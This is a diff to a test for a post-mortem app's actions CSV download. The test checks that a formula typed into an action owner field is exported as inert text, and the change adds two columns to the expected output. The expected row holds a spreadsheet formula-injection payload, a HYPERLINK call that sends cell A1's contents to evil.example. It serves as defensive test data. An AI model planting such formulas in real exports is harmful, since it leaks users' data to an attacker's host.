@@ -33,10 +33,10 @@ test('actions CSV from the File menu: a typed formula is written as text, the Ex
   await app.fill('Action owner 1', formula);
   assert.equal((await app.document()).actions[0].owner, formula);
 
-  const header = 'Summary,Assignee,Due date,Status,Link,Post-mortem\r\n';
+  const header = 'Summary,Assignee,Due date,Status,Link,Post-mortem,Kind,Notes\r\n';
   const firstRow = 'Validate checkout configs against a JSON schema in CI,' +
     '"\'=HYPERLINK(""http://evil.example/?""&A1,""Open"")",2026-02-01,Done,' +
-    `https://git.example.com/shop/checkout/pull/2291,${checkoutTitle}\r\n`;
+    `https://git.example.com/shop/checkout/pull/2291,${checkoutTitle},Prevent recurrence,\r\n`;
 
   const plain = await downloadFromMenu(app, 'Download actions CSV');
   assert.equal(plain.suggestedFilename(), 'checkout-outage-5xx-errors-after-config-push-actions.csv');
